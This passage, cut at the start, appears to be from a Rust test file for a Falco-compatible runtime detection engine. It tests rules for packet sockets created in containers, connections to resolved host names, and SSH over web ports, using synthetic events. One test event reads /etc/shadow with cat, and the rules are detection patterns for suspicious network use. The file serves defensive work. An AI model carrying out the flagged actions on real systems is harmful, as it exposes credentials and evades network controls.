        open("/etc/shadow", 0, "/bin/cat"),
    ] {
        assert_eq!(
            fired(&e, &benign),
            Vec::<String>::new(),
            "{:?}",
            benign.syscall
        );
    }
}

/// `Packet socket created in container`, verbatim from the stable file
/// (with the macro and list it uses), on `raw_socket` events.
const PACKET_RULE: &str = r#"
- macro: container
  condition: (container.id != host)
- list: user_known_packet_socket_binaries
  items: []
- rule: Packet socket created in container
  desc: packet sockets in containers
  condition: >
    evt.type=socket
    and container
    and evt.arg.domain contains AF_PACKET
    and not proc.name in (user_known_packet_socket_binaries)
  output: Packet socket was created in a container | evt_type=%evt.type process=%proc.name
  priority: NOTICE
"#;

fn socket_event(family: &str, socket_type: &str, in_container: bool) -> Event {
    let mut e = ev(K::RawSocket, "/usr/sbin/arping", &["arping"], in_container);
    e.syscall = Some(Syscall {
        name: "socket".into(),
        result: 3,
    });
    e.socket = Some(crate::model::SocketOp {
        family: family.into(),
        socket_type: socket_type.into(),
        protocol: 768,
    });
    e
}

#[test]
fn stable_packet_socket_rule_runs_on_raw_socket_events() {
    let set = load(&[("falco_packet.yaml", PACKET_RULE)]);
    assert_eq!(set.falco_report()[0].status, Status::Active);
    let e = Engine::new(set);
    let a = e.evaluate(&socket_event("packet", "raw", true));
    assert_eq!(a.len(), 1);
    assert_eq!(
        a[0].message,
        "Packet socket was created in a container | evt_type=socket process=arping"
    );
    for benign in [
        socket_event("packet", "raw", false),
        socket_event("inet", "raw", true),
        socket_event("inet6", "raw", true),
    ] {
        assert_eq!(
            fired(&e, &benign),
            Vec::<String>::new(),
            "{:?}",
            benign.socket
        );
    }
}

/// `fd.sip.name = X` holds when the server address is one of X's current
/// addresses (resolved in the background by `crate::dns`, as Falco does);
/// `!=` is its negation on present addresses; only `=`, `!=`, `in` map.
#[test]
fn server_host_names_compare_resolved_addresses() {
    let text = r#"
- rule: To localhost
  desc: t
  condition: evt.type=connect and fd.sip.name in (localhost, picket-unresolvable.invalid)
  output: "to %fd.sip"
  priority: NOTICE
- rule: Not to localhost
  desc: t
  condition: evt.type=connect and fd.sip.name != localhost
  output: o
  priority: NOTICE
- rule: Name prefix
  desc: t
  condition: evt.type=connect and fd.sip.name startswith local
  output: o
  priority: NOTICE
"#;
    let set = load(&[("n.yaml", text)]);
    let status: Vec<_> = set
        .falco_report()
        .iter()
        .map(|r| (r.id.clone(), r.status.clone()))
        .collect();
    assert_eq!(status[0].1, Status::Active);
    assert_eq!(status[1].1, Status::Active);
    assert!(
        matches!(&status[2].1, Status::Disabled(r) if r == &["line 14: `startswith` on a host name field (only `=`, `!=`, `in` compare addresses)".to_string()]),
        "{:?}",
        status[2]
    );
    let e = Engine::new(set);
    let to = |addr: &str| {
        let mut c = ev(K::Connect, "/usr/bin/curl", &["curl"], true);
        c.syscall = Some(Syscall {
            name: "connect".into(),
            result: 0,
        });
        c.network = Some(Network {
            transport: "tcp".into(),
            r#type: "ipv4".into(),
            peer: Some(Endpoint {
                address: addr.into(),
                port: 6443,
            }),
            local: None,
        });
        c
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while fired(&e, &to("127.0.0.1")) != ["falco-to-localhost"] {
        assert!(
            std::time::Instant::now() < deadline,
            "localhost not resolved: {:?}",
            fired(&e, &to("127.0.0.1"))
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert_eq!(e.evaluate(&to("127.0.0.1"))[0].message, "to 127.0.0.1");
    assert_eq!(fired(&e, &to("::ffff:127.0.0.1")), ["falco-to-localhost"]);
    assert_eq!(fired(&e, &to("192.0.2.7")), ["falco-not-to-localhost"]);
}

/// The shape of the stable "Disallowed SSH Connection Non Standard Port":
/// its `sendto` branch (socket state Picket does not track) contradicts the
/// rule's own `fd.l4proto=tcp` and is dropped exactly; `fd.ip`/`fd.net`
/// test both ends as libsinsp does (`!=`: neither end).
#[test]
fn contradicted_branches_are_dropped_and_either_end_fields_map() {
    let text = r#"
- macro: outbound
  condition: >
    ((evt.type = connect or
      (evt.type in (sendto,sendmsg) and
       fd.l4proto != tcp and fd.connected=false and fd.name_changed=true)) and
     (fd.typechar = 4 or fd.typechar = 6) and
     (fd.ip != "0.0.0.0" and fd.net != "127.0.0.0/8" and not fd.snet in ("10.0.0.0/8", "192.168.0.0/16")) and
     (evt.rawres >= 0 or evt.res = EINPROGRESS))
- rule: SSH out on a web port
  desc: t
  condition: outbound and proc.exe endswith ssh and fd.l4proto=tcp and fd.sport in (80, 443)
  output: "ssh %fd.sip:%fd.sport"
  priority: NOTICE
- rule: Still unsupported
  desc: t
  condition: outbound and proc.exe endswith ssh
  output: o
  priority: NOTICE
- rule: Either end
  desc: t
  condition: evt.type=connect and fd.ip = 198.51.100.7
  output: o
  priority: NOTICE
"#;
    let set = load(&[("s.yaml", text)]);
    let status: Vec<_> = set
        .falco_report()
        .iter()
        .map(|r| r.status.clone())
        .collect();
    assert_eq!(status[0], Status::Active);
    // Without `fd.l4proto=tcp` at the top the sendto branch can hold.
    assert!(
        matches!(&status[1], Status::Disabled(r) if r.iter().any(|x| x.contains("fd.connected"))),
        "{:?}",
        status[1]
    );
    assert_eq!(status[2], Status::Active);
    let e = Engine::new(set);
    let conn = |local: &str, peer: &str, port: u16, result: i64| {
        let mut c = ev(
            K::Connect,
            "/usr/bin/ssh",
            &["ssh", "-p", "443", "x"],
            false,
        );
        c.syscall = Some(Syscall {
            name: "connect".into(),
            result,
        });
        c.network = Some(Network {
            transport: "tcp".into(),
            r#type: "ipv4".into(),
            peer: Some(Endpoint {
                address: peer.into(),
                port,
            }),
            local: Some(Endpoint {
                address: local.into(),
                port: 40000,
            }),
        });
        c
    };
    let hit = conn("192.0.2.10", "203.0.113.9", 443, 0);
    assert_eq!(fired(&e, &hit), ["falco-ssh-out-on-a-web-port"]);
    assert_eq!(e.evaluate(&hit)[0].message, "ssh 203.0.113.9:443");
    // EINPROGRESS (non-blocking connect) counts, other errors do not.
    assert_eq!(
        fired(&e, &conn("192.0.2.10", "203.0.113.9", 443, -115)),
        ["falco-ssh-out-on-a-web-port"]
    );
    assert!(fired(&e, &conn("192.0.2.10", "203.0.113.9", 443, -111)).is_empty());
    // Port 22, a private server, loopback at either end: no.
    assert!(fired(&e, &conn("192.0.2.10", "203.0.113.9", 22, 0)).is_empty());
    assert!(fired(&e, &conn("192.0.2.10", "10.1.2.3", 443, 0)).is_empty());
    assert!(fired(&e, &conn("127.0.0.1", "203.0.113.9", 443, 0)).is_empty());
    assert!(fired(&e, &conn("192.0.2.10", "127.0.0.5", 443, 0)).is_empty());
    // `fd.ip = X`: either end.
    assert_eq!(
        fired(&e, &conn("198.51.100.7", "192.0.2.1", 8080, 0)),
        ["falco-either-end"]
    );
    assert_eq!(
        fired(&e, &conn("192.0.2.1", "198.51.100.7", 8080, 0)),
        ["falco-either-end"]
    );
}
